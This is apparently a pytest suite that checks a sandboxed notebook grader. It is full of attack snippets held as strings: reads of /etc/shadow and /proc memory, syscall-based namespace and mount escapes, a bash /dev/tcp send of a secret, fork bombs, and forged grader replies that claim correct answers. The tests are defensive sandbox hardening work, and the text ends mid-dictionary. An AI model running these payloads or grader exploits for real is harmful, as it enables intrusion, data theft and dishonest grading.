# ruff: noqa: E501 - an attack is set as it is
"""Attacks on the sealed grader, each at both sealed levels: none succeeds, and none harms the next submission.

An attack is a cell, and often an answer, of a submission. Whether it succeeded is looked at from outside: at what left
the sandbox by the channel (`loot`, compared with secrets that the test planted), at the points, at files, processes,
memory and sockets of this machine. After each attack, the same sandbox grades a right submission, which gets all points.
"""

import contextlib
import dataclasses
import os
import secrets
import socket
import threading
import time
from pathlib import Path

import pytest

from course.grading import channel as channels
from course.grading import memory
from course.grading import sandbox as sandboxes
from course.paths import ROOT
from tests.course.grading.sealed import LIMITS, VISIBLE, grade, lost, notebook, processes, running

PRELUDE = """
import numpy as np
import contextlib, ctypes, gc, glob, mmap, os, resource, signal, socket, struct, subprocess, sys, threading, time
loot = []
def gain(do, *arguments, **options):
    try:
        loot.append(repr(do(*arguments, **options))[:1500])
    except BaseException as error:
        pass
def read(path):
    with open(path, "rb") as file:
        return file.read(1000)
def write(path):
    with open(path, "a") as file:
        file.write("planted")
    return path
libc = ctypes.CDLL(None, use_errno=True)
def call(*arguments):
    done = libc.syscall(*(ctypes.c_long(item) if isinstance(item, int) else item for item in arguments))
    if done < 0:
        raise OSError(ctypes.get_errno())
    return done
"""
WRONG = "def softmax(z):\n    return z"


@pytest.fixture
def secret(tmp_path, monkeypatch):
    """A word that no submission may get hold of: it is in a file that all may read, and in our environment."""
    word = secrets.token_hex(12)
    for folder in ("submissions", "results"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "ada.txt").write_text(word)
        (tmp_path / folder / "ada.txt").chmod(0o666)
        (tmp_path / folder).chmod(0o777)
    for above in (tmp_path, *tmp_path.parents[:2]):
        above.chmod(0o755)
    monkeypatch.setenv("COURSE_SECRET", word)
    return word


@pytest.fixture(autouse=True)
def unharmed(sandbox):
    """After the attack, nothing is left of it, the sandbox was not started anew, and a right answer gets its points."""
    sandbox.start()
    first, usual = sandbox._process.pid, processes(sandbox)
    yield
    assert (sandbox._process and sandbox._process.pid, processes(sandbox)) == (first, usual)
    told, graded = grade(sandbox, notebook(), draws=VISIBLE)
    assert (told, lost(graded)) == ([], {})


def loot_of(sandbox, *cells, seconds=5.0, whole=True):
    """Run cells after the prelude, whole; return what `loot` holds then: None where the process has ended."""
    with sandbox.submission() as channel:
        try:
            for cell in (PRELUDE, *cells):
                error = channel.run(cell, seconds)["error"]
                assert error is None or not whole, error
            return channel.observe("loot", "value", {}, seconds)["returned"]["list"]
        except (channels.Ended, channels.TookTooLong, channels.Violation):
            return None


# ----- reading what is secret -----

READING = {
    "the bank": "for path in glob.glob('{root}/utils/exercises/lesson_*') + ['{root}/utils/exercises/lesson_03/softmax.py', "
    "'{root}/utils/exercises/lesson_00.py', '{root}/utils/exercises/diagnosis.py']: gain(read, path)",
    "the tests": "gain(read, '{root}/tests/course/grading/sealed.py'); gain(read, '{root}/tests/conftest.py')",
    "the repository": "gain(read, '{root}/pyproject.toml'); gain(read, '{root}/.git/HEAD')",
    "other submissions": "gain(read, '{folder}/submissions/ada.txt'); gain(os.listdir, '{folder}/submissions')",
    "the results": "gain(read, '{folder}/results/ada.txt'); gain(os.scandir, '{folder}/results')",
    "passwords": "for path in ('/etc/shadow', '/etc/passwd', '/etc/sudoers', '/etc/hosts'): gain(read, path)",
    "homes": "for path in ('/home', '/work', '/var', '/var/log', '/srv', '/opt/x', '/run', '/mnt', '/media', '/boot'): "
    "gain(os.listdir, path)\nfor path in glob.glob('/root/.[!p]*'): gain(read, path)",
    "by the roots of others": "for pid in (os.getppid(), *range(1, 9)):\n    for part in ('root', 'cwd'):\n"
    "        for path in ('{root}/pyproject.toml', '{folder}/results/ada.txt'): gain(read, f'/proc/{{pid}}/{{part}}{{path}}')",
    "by a handle": "handle = ctypes.create_string_buffer(struct.pack('Ii', 8, 1) + bytes(8))\n"
    "gain(call, 304, os.open('/usr', 0), handle, 0)",
    "by a link": "for link in ('/tmp/x', 'x', '/dev/shm/x'):\n"
    "    with contextlib.suppress(OSError): os.symlink('{folder}/results/ada.txt', link)\n    gain(read, link)",
    "by another program": "gain(subprocess.check_output, ['cat', '{folder}/results/ada.txt']); "
    "gain(subprocess.check_output, ['sh', '-c', 'cat {root}/Makefile'])",
    "the import path": "sys.path.insert(0, '{root}')\nfor name in [n for n in sys.modules if n.startswith('utils')]: "
    "del sys.modules[name]\ndef take():\n    import utils.exercises.lesson_03 as bank\n    return bank.softmax.reference(1)\n"
    "def text(do):\n    found = repr(do())\n    if found: return found\n    raise ValueError\ngain(text, take)",
    "the reference": "from utils.exercises import lesson_03\nloot += [repr(x) for x in (lesson_03.softmax, "
    "lesson_03.softmax.reference, lesson_03.softmax.cases(), lesson_03.softmax.solution(), lesson_03.softmax.right_answer) if repr(x)]",
    "exercises among all objects": "loot += [type(item).__name__ for item in gc.get_objects() if type(item).__name__ in "
    "('FunctionExercise', 'ValueExercise', 'ChoiceExercise', 'Case', 'Misconception', 'Outcome', 'Exercise', 'Evidence')]",
    "references among the modules": "loot += [name for name in sys.modules if name.startswith(('course.grading.points', "
    "'course.grading.engine', 'course.grading.sandbox', 'utils.exercises.function_exercise', 'utils.exercises.diagnosis', "
    "'utils.exercises.lesson_03.', 'tests'))]",
    "expected values in the frames": "frame = sys._getframe()\nwhile frame:\n"
    "    loot += [name for name in frame.f_locals if name in ('expected', 'reference', 'exercise', 'draws')]\n"
    "    frame = frame.f_back",
    "frames of other threads": "for frame in sys._current_frames().values():\n    while frame:\n"
    "        loot += [n for n in frame.f_locals if n in ('expected', 'reference', 'exercise', 'draws')]\n        frame = frame.f_back",
    "the environment": "loot += [name for name in os.environ if 'SECRET' in name or name.startswith(('COURSE', 'SSH', 'USER'))]",
    "environments of others": "for pid in range(1, 400): gain(read, f'/proc/{{pid}}/environ')\n"
    "loot[:] = [text for text in loot if 'SECRET' in text or 'SSH' in text]",
    "processes of others": "with contextlib.suppress(OSError):\n    loot += [pid for pid in os.listdir('/proc') if pid.isdigit() and int(pid) != os.getpid()]",
    "open files": "for number in range(1024):\n    with contextlib.suppress(OSError):\n        status = os.fstat(number)\n"
    "        if number not in (0, 1, 2, 3) and not os.path.samestat(status, os.stat('/dev/null')): loot.append(number)",
    "memory of others": "for pid in (os.getppid(), 1, 2, 3):\n    if pid != os.getpid(): gain(read, f'/proc/{{pid}}/mem'); gain(read, f'/proc/{{pid}}/maps')",
    "our arguments": "loot += [text for text in sys.argv if '{folder}' in text or '{root}/utils' in text]",
    "the kernel": "for path in ('/proc/kcore', '/dev/mem', '/dev/kmsg', '/proc/kmsg', '/sys/kernel', '/sys/class/net', '/proc/sched_debug'): "
    "gain(os.listdir if path.startswith('/sys') else read, path)",
    "devices": "for path in glob.glob('/dev/[snv]d*') + ['/dev/sda', '/dev/vda', '/dev/nvme0n1', '/dev/fuse', '/dev/kvm', '/dev/net/tun']: gain(read, path)",
    "new devices": "gain(os.mknod, '/tmp/m', 0o20666, os.makedev(1, 1)); gain(os.mknod, '/dev/m', 0o60666, os.makedev(8, 0))",
    "the terminal": "gain(read, '/dev/tty'); import fcntl, termios\nfor n in (0, 1, 2): gain(fcntl.ioctl, n, termios.TIOCSTI, b'x')",
}


@pytest.mark.parametrize("name", READING)
def test_nothing_secret_can_be_read(sandbox, secret, tmp_path, name):
    loot = loot_of(sandbox, READING[name].format(root=ROOT, folder=tmp_path))
    assert loot == []
    assert secret not in repr(loot)


def test_what_would_be_read_is_there(secret, tmp_path):
    with sandboxes.Sandbox(sandboxes.PLAIN, LIMITS) as plain:
        for name in ("the bank", "the tests", "other submissions", "the results", "by another program", "by a link"):
            assert loot_of(plain, READING[name].format(root=ROOT, folder=tmp_path)), name


def test_an_earlier_submission_leaves_nothing(sandbox):
    word = secrets.token_hex(12)
    plant = f"word = '{word}'\nfor path in ('/tmp/x', 'x', '/dev/shm/x', '/var/tmp/x', '/dev/x', '/x', '/etc/x', '/run/x'):\n"
    plant += "    gain(write, path)"
    loot_of(sandbox, plant)
    half = f"word = ('{word[:12]}', '{word[12:]}')\n"
    look = (
        half
        + "loot += [1 for item in gc.get_objects() if isinstance(item, dict) and ''.join(word) in map(str, item.values())]"
    )
    look += "\nfor path in ('/tmp/x', 'x', '/dev/shm/x', '/var/tmp/x', '/dev/x', '/x', '/etc/x', '/run/x'): gain(read, path)"
    look += "\nloot += [name for name in os.listdir('.') if os.access('.', os.R_OK) and name != 'w' and '/tmp' == os.getcwd()]"
    with sandbox.submission() as channel:
        channel.run(PRELUDE, 5)
        channel.run(look, 5)
        assert channel.observe("loot", "value", {}, 5)["returned"] == {"list": []}


# ----- claiming to be right -----

FORGED = '{"ask": asked, "observation": {"status": "correct"}}'
SEND = "import json, os, socket, threading, time\nfrom course.grading.inside import frames\nchannel = socket.socket(fileno=os.dup(3))\n"
RIGHT = """{"status": "returned", "returned": {"array": {"dtype": "float64", "shape": [2, 3], "data": [1, 0, 0, 1, 0, 0]}},
"arguments": [], "error": None, "printed": "", "warnings": []}"""


def sends(raw):
    """Return an answer that writes these bytes into the channel by itself."""
    return f"{SEND}def softmax(z):\n    channel.sendall({raw})\n    time.sleep(0.1)\n    return z"


def replies(observation):
    """Return an answer that makes the driver's reply to be this expression; in it, `seen` is the honest one."""
    return f"""{WRONG}
from utils.exercises import drivers
honest = drivers.observe
def observe(driver, answer, case):
    seen = honest(driver, answer, case)
    return ({observation}) if answer is softmax else seen
drivers.observe = observe"""


def array(dtype, shape, data):
    return replies(f'{{**seen, "returned": {{"array": {{"dtype": {dtype}, "shape": {shape}, "data": {data}}}}}}}')


CLAIMS = {
    "wire.encode says nothing": f"{WRONG}\nfrom utils.exercises import wire\nwire.encode = lambda value: None",
    "wire.encode raises": f"{WRONG}\nfrom utils.exercises import wire\nwire.encode = lambda value: 1 / 0",
    "an observation that says correct": replies('{"status": "correct"}'),
    "an observation with points": replies('{**seen, "points": 1, "correct": True}'),
    "an observation that expects what is returned": replies('{**seen, "expected": seen["returned"]}'),
    "details of its own": replies('{**seen, "details": {"correct": [True]}}'),
    "frames.send says correct": f"{WRONG}\nfrom course.grading.inside import frames\nold = frames.send\n"
    'frames.send = lambda channel, message: old(channel, {**message, "correct": True})',
    "no arguments": replies('{**seen, "arguments": []}'),
    "a stub": replies('{**seen, "status": "stub"}'),
    "interrupted": replies('{**seen, "status": "interrupted"}'),
    "raised without an error": replies('{**seen, "status": "raised"}'),
    "an object that equals all": "class Yes:\n    def __eq__(self, other): return True\n    __hash__ = None\n"
    "    __bool__ = __lt__ = __le__ = lambda *_: True\n    __array_ufunc__ = None\n"
    "    def __getattr__(self, name): return self\n    def __call__(self, *_, **__): return self\n"
    "    def __float__(self): return 1.0\n    def __len__(self): return 2\nsoftmax = lambda z: Yes()",
    "an array that equals all": "class Yes(np.ndarray):\n    def __eq__(self, other): return np.True_\n"
    "    def __array_ufunc__(self, *_, **__): return np.True_\nsoftmax = lambda z: np.asarray(z).view(Yes)",
    "a number that equals all": "class Yes(float):\n    def __eq__(self, other): return True\nsoftmax = lambda z: Yes(1)",
    "a pickle": "class Run:\n    def __reduce__(self): return (eval, ('1/0',))\nsoftmax = lambda z: Run()",
    "NaN": "softmax = lambda z: np.full_like(z, np.nan, dtype=float)",
    "infinity": "softmax = lambda z: np.full(np.shape(z), np.inf)",
    "masked": "softmax = lambda z: np.ma.masked_all(np.shape(z))",
    "nothing": "softmax = lambda z: np.empty((0, 3))",
    "an empty array of endless shape": "softmax = lambda z: np.zeros((0, 99_999, 99_999, 99_999))",
    "a long row": "softmax = lambda z: np.zeros((1, 20_000))",
    "a long column": "softmax = lambda z: np.zeros((20_000, 1))",
    "many axes": "softmax = lambda z: np.zeros((1,) * 32)",
    "objects": "softmax = lambda z: np.array([[object()] * 3] * 2)",
    "structured": "softmax = lambda z: np.zeros(2, dtype=[('a', float), ('b', int)])",
    "complex": "softmax = lambda z: np.asarray(z) + 1j",
    "dates": "softmax = lambda z: np.zeros(3, dtype='M8[s]')",
    "a forged dtype": array("'O'", "[1]", "[1]"),
    "a dtype with a name": array("'datetime64[s]'", "[1]", "[1]"),
    "a dtype that is a list": array("[['a', 'f8']]", "[1]", "[1]"),
    "a shape that does not fit": array("'float64'", "[2, 3]", "[1.0]"),
    "a negative shape": array("'float64'", "[-1, 3]", "[1.0] * 6"),
    "a shape of truth": array("'float64'", "[True, True]", "[1.0]"),
    "a huge shape": array("'float64'", "[0, 10**30]", "[]"),
    "data that are words": array("'float64'", "[2]", "['1e999', 'nan ']"),
    "integers that overflow": array("'int64'", "[2]", "[2**63, -2**70]"),
    "integers that overflow a little": array("'uint8'", "[2]", "[-1, 256]"),
    "a huge integer": replies('{**seen, "returned": 1 << 100_000}'),
    "an integer of 999 bits": replies('{**seen, "returned": 1 << 999}'),
    "two tags": replies('{**seen, "returned": {"list": [], "tuple": []}}'),
    "no tag": replies('{**seen, "returned": {}}'),
    "a dict of losses": replies('{**seen, "returned": {"dict": [["losses", 5]]}}'),
    "keys of all kinds": replies('{**seen, "returned": {"dict": [[{"dict": []}, 1], [{"list": []}, 2]]}}'),
    "half a character": replies('{**seen, "returned": "\\\\ud800"}'.replace("\\\\", "\\")),
    "half a character in an error": replies(
        '{**seen, "status": "raised", "error": {"type": "E", "message": "\\ud800", "line": None}}'
    ),
    "an escape sequence in an error": replies(
        '{**seen, "status": "raised", "error": {"type": "E", "message": "\\x1b[2J\\n<script>", "line": None}}'
    ),
    "an endless type": replies(
        '{**seen, "status": "raised", "error": {"type": "E" * 10**6, "message": "", "line": None}}'
    ),
    "deep": replies("{**seen, 'returned': __import__('functools').reduce(lambda a, _: {'list': [a]}, range(60), 1)}"),
    "wide": replies("{**seen, 'returned': {'list': [1] * 300_000}}"),
    "doubled replies": f"{WRONG}\nfrom course.grading.inside import frames\nold = frames.send\n"
    "def send(channel, message):\n    old(channel, message); old(channel, message)\nframes.send = send",
    "a reply in advance": f"{SEND}def softmax(z):\n    return z\n"
    f"frames.send(channel, {{'ask': '0' * 16, 'observation': {RIGHT}}})",
    "a reply to another question": sends(f"b'' or frames.send(channel, {{'ask': 'x', 'observation': {RIGHT}}}) or b''"),
    "a reply to a cell": sends('frames.send(channel, {"cell": {"error": None, "noted": []}}) or b""'),
    "a greeting": sends('frames.send(channel, {"ready": True}) or b""'),
    "a length without an end": sends(r'b"\xff\xff\xff\xff"'),
    "a length of nothing": sends(r'b"\0\0\0\0"'),
    "half a length": sends(r'b"\0"'),
    "a length that is too short": sends(r'b"\0\0\0\2{}{}"'),
    "a length that is never filled": sends(r'b"\0\0\xff\xff{"'),
    "no JSON": sends(r'b"\0\0\0\4\xff\xfe\0\0"'),
    "deep JSON": sends('(2_000_000).to_bytes(4, "big") + b"[" * 2_000_000'),
    "huge JSON": sends('(7_999_999).to_bytes(4, "big") + b"[" + b"{}," * 2_666_666 + b"]"'),
    "NaN in JSON": sends(r'b"\0\0\0\3NaN"'),
    "a key twice": sends("""b"\\0\\0\\0\\x12" + b'{"ask":1,"ask":"2"}'[:18]"""),
    "JSON in another encoding": sends("""b"\\0\\0\\0\\x0a" + '{"a"}'.encode("utf-16-le")"""),
    "drops": f"{SEND}def softmax(z):\n    while True:\n        channel.send(b'\\0'); time.sleep(0.05)",
    "a channel that is closed": "import os\ndef softmax(z):\n    os.close(3)\n    return z",
    "a channel that is shut": f"{SEND}def softmax(z):\n    channel.shutdown(socket.SHUT_RDWR)\n    return z",
    "a channel that is replaced": "import os\ndef softmax(z):\n    os.dup2(0, 3)\n    return z",
    "files over the channel": f"{SEND}def softmax(z):\n    for _ in range(50):\n"
    "        socket.send_fds(channel, [b'\\0'], [0] * 20)\n    return z",
    "someone else at the channel": f"{SEND}def read():\n    while True:\n        channel.recv(10)\n"
    f"def softmax(z):\n    threading.Thread(target=read, daemon=True).start()\n    return z",
    "a comparison that is patched": "import builtins, math\nnp.allclose = np.isclose = np.array_equal = math.isclose = lambda *_, **__: True\n"
    "builtins.all = builtins.any = lambda *_: True\nsoftmax = lambda z: z",
    "a driver's name": f"{WRONG}\nfrom utils.exercises import drivers\ndrivers.MODULES['call'] = 'os:abort'",
    "another's answer": "from utils.exercises.lesson_03 import softmax",
    "another's answer from the bank": "from utils.exercises import lesson_03\nsoftmax = lesson_03.softmax.reference",
    "JSON that is patched": f"{WRONG}\nimport json\njson.dumps = lambda *_, **__: '{FORGED}'",
    "a shell without answers": f"{WRONG}\nget_ipython().user_ns = {{'softmax': 1}}",
    "a trace": f"{WRONG}\nimport sys\nsys.settrace(lambda *_: 1 / 0)\nsys.setprofile(lambda *_: 1 / 0)",
    "an excepthook": f"{WRONG}\nimport sys\nsys.excepthook = sys.unraisablehook = print\nraise KeyboardInterrupt",
    "an error that lies": "class E(Exception):\n    def __str__(self): raise self\n    __class__ = property(lambda s: int)\n"
    "    __traceback__ = 3\ndef softmax(z): raise E",
}
# They break what only their own process has, so that other answers of it are lost as well.
ALL_LOST = (
    "wire.encode",
    "frames.send",
    "doubled",
    "JSON that is patched",
    "a comparison that is patched",
    "a shell without",
    "a trace",
    "a reply in advance",
)


@pytest.mark.parametrize("name", CLAIMS)
def test_no_claim_is_believed(sandbox, name):
    began = time.monotonic()
    _, graded = grade(sandbox, notebook(softmax=CLAIMS[name]), draws=VISIBLE)
    assert graded["softmax"].points == 0
    assert name.startswith(ALL_LOST) or list(lost(graded)) == ["softmax"]
    assert time.monotonic() - began < 10
    for item in graded.values():
        assert item.message.encode()
        assert "\x1b" not in item.message


def test_a_channel_closed_with_something_unread_in_it_ends_its_own_process(sandbox):
    source = SEND + "import select\ndef hold():\n    select.select([channel], [], [])\n"
    source += "    frames.send(channel, {'cell': {'error': None, 'noted': []}}); os.close(3); os._exit(0)\n"
    source += "frames.send(channel, {'cell': {'error': None, 'noted': []}}); hold()"
    with sandbox.submission() as channel:
        channel.run(source, 5)
        channel.run("x = 1", 5)
        time.sleep(0.1)
        with pytest.raises((channels.Ended, channels.Violation)):
            channel.run("x = 1", 5)


def test_slow_answers_take_no_more_than_their_time(sandbox, monkeypatch):
    monkeypatch.setattr(sandbox, "limits", dataclasses.replace(LIMITS, total_seconds=2))
    began = time.monotonic()
    _, graded = grade(sandbox, notebook(softmax="import time\nsoftmax = lambda z: time.sleep(0.6)"))
    assert time.monotonic() - began < 4
    assert graded["softmax"].points == 0


# ----- getting away with more than is allowed -----

# What is gained is what the system let the attack do; nothing may be.
FORBIDDEN = {
    "higher limits": "for name in dir(resource):\n    if name.startswith('RLIMIT_'):\n        kind = getattr(resource, name)\n"
    "        soft, hard = resource.getrlimit(kind)\n        if hard != resource.RLIM_INFINITY:\n"
    "            gain(resource.setrlimit, kind, (hard + 1, hard + 1)); os.getppid() and gain(resource.prlimit, os.getppid(), kind, (1, 1))\n"
    "            gain(resource.setrlimit, kind, (resource.RLIM_INFINITY,) * 2)",
    "another user": "for user in (0, 1, 1000, 65534): gain(os.setuid, user); gain(os.setgid, user); gain(os.setresuid, user, user, user)\n"
    "gain(os.setgroups, [0])",
    "capabilities": "gain(call, 126, ctypes.create_string_buffer(struct.pack('Ii', 0x20080522, 0)), "
    "ctypes.create_string_buffer(struct.pack('6I', *[0xffffffff] * 6)))\n"
    "for cap in range(41):\n    if libc.prctl(47, 2, cap, 0, 0) == 0: loot.append(cap)",
    "a program that runs as root": "for path in glob.glob('/usr/bin/su*') + ['/usr/bin/mount', '/usr/bin/passwd', '/usr/bin/newgrp']:\n"
    "    gain(subprocess.check_output, [path, '-c', 'cat /etc/shadow'], stderr=-3, stdin=-3)",
    "signals to all others": "for pid in (os.getppid(), *range(1, 9)):\n    if pid and pid != os.getpid(): gain(os.kill, pid, 19); gain(os.kill, pid, 9)",
    "signals to our pid": "gain(os.kill, {us}, 9); gain(os.kill, {zygote}, 9); gain(os.killpg, {us}, 9); gain(os.kill, {zygote}, 19)",
    "ptrace": "for pid in (os.getppid(), {us}, {zygote}, 1):\n    gain(call, 101, 16, pid, 0, 0); gain(call, 101, 0x4206, pid, 0, 0)\n"
    "gain(call, 101, 0, 0, 0, 0)",
    "others' memory": "buffer = ctypes.create_string_buffer(64)\nlocal = struct.pack('QQ', ctypes.addressof(buffer), 8)\n"
    "for pid in (os.getppid(), {us}, {zygote}): gain(call, 310, pid, local, 1, local, 1, 0); gain(call, 311, pid, local, 1, local, 1, 0)",
    "others' files": "for pid in (os.getppid(), {us}, {zygote}):\n    with contextlib.suppress(OSError):\n"
    "        opened = os.pidfd_open(pid)\n        gain(call, 438, opened, 3, 0)",
    "others' priority": "gain(os.setpriority, os.PRIO_PROCESS, {us}, 19); gain(os.setpriority, os.PRIO_PROCESS, 0, -20); "
    "gain(os.sched_setaffinity, {us}, [0]); gain(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(50))",
    "a socket": "gain(socket.socket); gain(socket.create_connection, ('127.0.0.1', {port}), 1); gain(socket.socket, socket.AF_INET6)",
    "a datagram": "gain(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{word}', ('127.0.0.1', {port})))",
    "a raw socket": "gain(socket.socket, socket.AF_PACKET, socket.SOCK_RAW); gain(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW); "
    "gain(socket.socket, 40); gain(socket.socket, socket.AF_ALG if hasattr(socket, 'AF_ALG') else 38)",
    "names": "gain(socket.getaddrinfo, 'localhost.localdomain', 80, 2); gain(socket.gethostbyname, 'example.com')",
    "a unix socket": "gain(lambda: socket.socket(socket.AF_UNIX).connect('{folder}/socket'))",
    "an abstract socket": "gain(lambda: socket.socket(socket.AF_UNIX).connect('\\0{word}')); gain(lambda: socket.socket(socket.AF_UNIX).bind('\\0mine'))",
    "a connected pair": "a, b = socket.socketpair()\ngain(a.connect, ('127.0.0.1', {port})); gain(a.connect, '\\0{word}'); gain(a.bind, '\\0x')",
    "downloads": "import urllib.request\ngain(urllib.request.urlopen, 'http://127.0.0.1:{port}/')\n"
    "gain(subprocess.check_output, ['bash', '-c', 'echo {word} > /dev/tcp/127.0.0.1/{port}'])",
    "mounts": "gain(call, 165, b'none', b'/tmp', b'tmpfs', 0, 0); gain(call, 165, b'/', b'/tmp', 0, 4096, 0); gain(call, 166, b'/proc', 2); "
    "gain(call, 166, b'/tmp', 2); gain(call, 165, 0, b'/', 0, 32 | 4096, 0); gain(call, 428, -100, b'/', 1); gain(call, 430, b'tmpfs', 0); "
    "gain(call, 429, 0, 0, 0, 0, 0); gain(call, 442, -100, b'/', 0, 0, 0)",
    "new namespaces": "for kind in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000, 0x10020000): gain(call, 272, kind)",
    "a clone with namespaces": "for kind in (0x10000000, 0x30000000, 0x20000000, 0x40000000):\n    gain(call, 56, kind | 17, 0, 0, 0, 0)",
    "clone3": "gain(call, 435, ctypes.create_string_buffer(struct.pack('8Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0)), 64)",
    "others' namespaces": "for pid in (1, os.getppid(), {us}):\n    for kind in ('user', 'mnt', 'net', 'pid'):\n"
    "        with contextlib.suppress(OSError): gain(call, 308, os.open(f'/proc/{{pid}}/ns/{{kind}}', 0), 0)",
    "a map of users": "for file in ('uid_map', 'gid_map', 'setgroups'):\n    for text in ('0 0 1', '0 0 4294967295', 'allow'):\n"
    "        gain(lambda: os.write(os.open(f'/proc/self/{{file}}', 1), text.encode()))",
    "another root": "gain(os.chroot, '/tmp'); gain(os.chroot, '/'); gain(call, 155, b'/tmp', b'/tmp')",
    "code of the course": "from utils import activations\nfrom course.grading.inside import zygote\n"
    "for module in (activations, zygote, np, socket): gain(write, module.__file__); gain(os.chmod, module.__file__, 0o777); "
    "gain(os.unlink, module.__file__); gain(os.rename, module.__file__, module.__file__ + 'x'); gain(os.truncate, module.__file__, 0); gain(os.utime, module.__file__)",
    "packages": "for folder in [*sys.path, sys.prefix, sys.base_prefix, '/usr/lib', '/usr/bin', '/lib', '/bin', '/usr/local/lib', '/etc', '/', '/dev', '/root', '/var/tmp', '/run']:\n"
    "    for name in ('x.pth', 'sitecustomize.py', 'usercustomize.py', 'numpy.py', 'matplotlibrc', 'ld.so.preload'):\n        gain(write, f'{{folder}}/{{name}}')\n"
    "    gain(os.mkdir, f'{{folder}}/made'); gain(os.symlink, '/', f'{{folder}}/link')",
    "files of the lecturer": "gain(write, '{folder}/results/ada.txt'); gain(os.unlink, '{folder}/submissions/ada.txt'); gain(os.truncate, '{folder}/results/ada.txt', 0)\n"
    "gain(write, '{folder}/results/new.txt'); gain(os.mkfifo, '{folder}/results/fifo'); gain(os.link, sys.executable, '{folder}/results/x'); "
    "gain(os.chmod, '{folder}/results/ada.txt', 0o777); gain(os.rename, '{folder}/results', '{folder}/r')",
    "the kernel's settings": "for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/hostname', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper', "
    "'/proc/1/oom_score_adj', '/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/memory/tasks', '/proc/self/attr/current'): gain(write, path)\n"
    "gain(socket.sethostname, 'x'); gain(os.sync and call, 170, b'x', 1); gain(call, 169, 0xfee1dead, 672274793, 0x89abcdef); gain(time.clock_settime, 0, 0)",
    "parts of the kernel": "for number in (321, 298, 323, 425, 250, 248, 249, 304, 175, 246, 103, 135, 312, 319, 447, 29, 68, 64):\n"
    "    gain(call, number, 0 if number != 319 else b'x', 0 if number != 29 else 1 << 20, 0o1600, 0, 0)",
    "shared memory": "gain(call, 29, 0, 1 << 30, 0o1600); gain(call, 319, b'x', 0); gain(call, 240, b'/x', 0o102, 0o600, 0)",
    "locked memory": "for size in (1 << 20, 1 << 24): gain(call, 149, ctypes.addressof(ctypes.create_string_buffer(size)), size)",
    "a core": "import faulthandler\nloot += [resource.getrlimit(resource.RLIMIT_CORE)] if resource.getrlimit(resource.RLIMIT_CORE) != (0, 0) else []",
    "many files": "opened = []\ndef take():\n    for _ in range(5_000): opened.append(os.open('/dev/null', 0))\ngain(take)\n"
    "for n in opened: os.close(n)",
    "a large file": "def fill(path):\n    with open(path, 'wb') as file:\n        for _ in range(200): file.write(bytes(1 << 20))\n"
    "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\nfor folder in ('.', '/tmp', '/dev/shm', '/dev', '/', '/var/tmp', '{folder}/results'): gain(fill, folder + '/large')",
    "many large files": "def fill(folder):\n    for n in range(40):\n        with open(f'{{folder}}/{{n}}', 'wb') as file: file.write(bytes(1 << 20))\n"
    "for folder in ('.', '/tmp', '/dev/shm', '/dev', '/var/tmp', '{folder}/results'): gain(fill, folder)",
    "many small files": "def fill(folder):\n    for n in range(6_000): os.close(os.open(f'{{folder}}/{{n}}', os.O_CREAT))\n"
    "for folder in ('.', '/dev/shm', '/dev', '/var/tmp', '{folder}/results'): gain(fill, folder)",
    "many children": "pids = []\ndef breed():\n    for _ in range(200):\n        pid = os.fork()\n        if pid == 0:\n            time.sleep(60); os._exit(0)\n        pids.append(pid)\n"
    "gain(breed)\nfor pid in pids: os.kill(pid, 9)",
    "many threads": "def breed():\n    for _ in range(200): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\ngain(breed)",
}
if os.uname().machine != "x86_64":  # the numbers of system calls above are those of x86-64
    FORBIDDEN = {name: source for name, source in FORBIDDEN.items() if "call, " not in source}


@pytest.fixture
def listener(secret):
    """Sockets of this machine that nothing may reach: the port of two of them; what reached them is asserted."""
    reached = []
    with (
        socket.socket() as stream,
        socket.socket(type=socket.SOCK_DGRAM) as datagram,
        socket.socket(socket.AF_UNIX) as unix,
    ):
        stream.bind(("127.0.0.1", 0))
        port = stream.getsockname()[1]
        datagram.bind(("127.0.0.1", port))
        unix.bind(f"\0{secret}")
        for one in (stream, datagram, unix):
            one.setblocking(False)
            if one is not datagram:
                one.listen()
        yield port
        for one in (stream, datagram, unix):
            with contextlib.suppress(BlockingIOError):
                reached.append(one.recv(100) if one is datagram else one.accept())
    assert reached == []


@pytest.mark.parametrize("name", FORBIDDEN)
def test_nothing_more_than_is_allowed(sandbox, secret, listener, tmp_path, name):
    known = {"us": os.getpid(), "zygote": sandbox._process.pid, "port": listener, "word": secret, "folder": tmp_path}
    assert loot_of(sandbox, FORBIDDEN[name].format(**known)) == []
    assert (tmp_path / "results/ada.txt").read_text() == secret
    assert sorted(path.name for path in tmp_path.rglob("*")) == ["ada.txt", "ada.txt", "results", "submissions"]


# What ends or hangs its own process, or leaves something behind: gone when the submission is over.
LEFT = {
    "a child": "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)', '{word}'])",
    "a child that burns time": "subprocess.Popen([sys.executable, '-c', 'while True: pass', '{word}'])",
    "a daemon": "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.setsid() if os.getpgrp() != os.getpid() else 0\n"
    "        os.execv(sys.executable, ['python', '-c', 'while True: pass', '{word}'])\n    os._exit(0)",
    "a child that ignores signals": "subprocess.Popen([sys.executable, '-c', 'import signal, time\\nfor n in range(1, 65):\\n"
    "  try: signal.signal(n, 1)\\n  except (OSError, ValueError): pass\\ntime.sleep(60)', '{word}'], start_new_session=True)",
    "children that run away": "if os.fork() == 0:\n    os.setsid()\n    while True:\n        try:\n            if os.fork(): os._exit(0)\n            os.setsid()\n"
    "        except OSError: pass",
    "a fork bomb": "def bomb():\n    while True:\n        with contextlib.suppress(OSError): os.fork()\nif os.fork() == 0: bomb()",
    "a fork bomb at once": "while True:\n    with contextlib.suppress(OSError): os.fork()",
    "a shell's fork bomb": "subprocess.Popen(['bash', '-c', 'f() {{ f | f & }}; f', '{word}'], stderr=-3)\ntime.sleep(.3)",
    "a thread bomb": "def bomb():\n    while True:\n        with contextlib.suppress(RuntimeError): threading.Thread(target=bomb).start()\nbomb()",
